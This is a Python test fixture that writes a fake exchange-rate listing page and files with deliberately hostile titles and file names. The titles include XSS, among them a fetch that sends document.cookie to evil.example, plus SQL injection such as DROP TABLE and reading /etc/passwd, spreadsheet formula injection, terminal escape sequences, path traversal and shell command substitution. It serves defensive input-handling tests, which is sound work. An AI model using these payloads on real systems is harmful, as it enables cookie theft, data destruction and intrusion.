"""A dump written to do harm, and names of files that are."""

import os
from pathlib import Path

SCRIPTS = [
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)> and a picture of the pass",
    "</title></style></script><svg onload=alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} of a template",
    "[a link](javascript:alert(1)) and `code` | a table | of Markdown",
    "[red]A markup[/red] of a console [/] [link=https://evil.example]here[/link]",
]
SQL = [
    "'; DROP TABLE main.rates; -- and other words of a title",
    "\"; COPY (SELECT 1) TO '/tmp/steppe-was-here'; --",
    "x' UNION SELECT * FROM read_text('/etc/passwd') --",
]
FORMULAS = [
    "=cmd|' /C calc'!A0 and the price of wool",
    '=HYPERLINK("https://evil.example?x="&A1,"read on")',
    "+1+1 is what the herders of the valley count",
    "-2+3+cmd|' /C calc'!A0 and the price of wool",
    "@SUM(1+1)*cmd|' /C calc'!A0 and the price of wool",
    "＝1+1 in wide signs, as some spreadsheets take them",
]
ESCAPES = [
    "\x1b]0;owned\x07A title that names the window",
    "\x1b[2J\x1b[H\x1b[31mA title that clears the screen",
    "A title \u202egnol ot tfel morf\u202c that is turned",
    "A title \u2066with isolates\u2069 and \x9b31m a C1 sequence",
    "A title with a bell \x07 and a back\x08\x08\x08\x08 step",
    "A title that goes back to\rits own first letters",
]
PATHS = [
    "../../../../etc/passwd and the road to the pass",
    "C:\\Windows\\System32\\calc.exe and the road to the pass",
    "file:///etc/passwd and the road to the pass",
    "%2e%2e%2f%00 and the road to the pass",
    "$(touch /tmp/steppe-was-here) `touch /tmp/steppe-was-here`",
]
TITLES = [*SCRIPTS, *SQL, *FORMULAS, *ESCAPES, *PATHS]
TICKER = "• KGS/USD = 0.01144 -0.42%\n  • KZT/USD = 0.00197 -0%\n  • UZS/USD = 0.00008 0.1%\n"
FILLER = (
    "The herders of the valley met in Astana, and the council of Kazakhstan heard what they had to say of the road, "
    "of the wool and of the price that both of them fetch this year on the market of the town below. "
)
FILE_NAMES = [
    b"new\nline.txt", b"\x1b[2J\x1b[31mred.txt", b"quote'\"; DROP TABLE rates; --.txt", b"caf\xe9-\xff.txt",
    b"=cmd|' C calc'!A0.txt", b"<script>alert(1)<script>.txt", b"[bold]x[", b"--rehash.txt", b"\xe2\x80\xaegpj.txt",
    b"~root.txt", b"a,b;c.txt", b"[link=https:evil]x.txt",
]  # fmt: skip


def page(titles: list[str] = TITLES) -> str:
    """A listing whose titles and bodies are hostile."""
    items = "".join(f"{title}\n\n{FILLER}{title} {FILLER}{title}\n\n" for title in titles)
    return f"{TICKER}15 May 2025\n\nViewing results 1 - 40 of 90\n\n{items}"


def write(folder: Path) -> list[Path]:
    """The hostile page under hostile names, and files under such names that are refused."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for number, name in enumerate(FILE_NAMES):
        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + name))
        path.write_text(page(TITLES[number:] + TITLES[:number]), encoding="utf-8", newline="")
        refused = path.with_name(f"refused-{path.name}")
        refused.write_bytes(b"\x00" + os.fsencode(name))
        written += [path, refused]
    return written
